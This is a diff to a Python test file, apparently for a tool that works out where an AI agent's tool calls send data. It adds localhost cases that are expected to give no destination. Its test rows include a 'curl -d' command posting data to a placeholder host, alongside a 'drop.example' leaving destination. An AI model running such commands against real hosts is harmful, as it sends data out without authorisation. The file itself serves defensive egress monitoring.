@@ -54,6 +54,7 @@ def test_one_line_a_call_with_all_that_is_known_of_it() -> None:
     ({**PRE, "parameters": {"command": "curl -d x https://h.example/in"}}, "h.example"),
     ({**PRE, "tool": "WebFetch", "parameters": {"url": "https://d.example/a"}}, "d.example"),
     ({**PRE, "call": {"effects": ["reads cat", "sends git push -> remote:origin"]}}, "remote:origin"),
+    ({**PRE, "call": {"effects": ["sends curl -> localhost/health"]}}, ""), ({**PRE, "tool": "WebFetch", "parameters": {"url": "http://127.0.0.1:8000/"}}, ""),
     ({**PRE, "call": {"effects": ["deletes rm -> x"]}}, ""), ({**PRE, "call": ["odd"]}, ""),
     ({**PRE, "guards": {"contamination": {"leaving": {"destination": "drop.example"}}}}, "drop.example")])
 def test_where_it_goes(row: dict[str, Any], to: str) -> None:
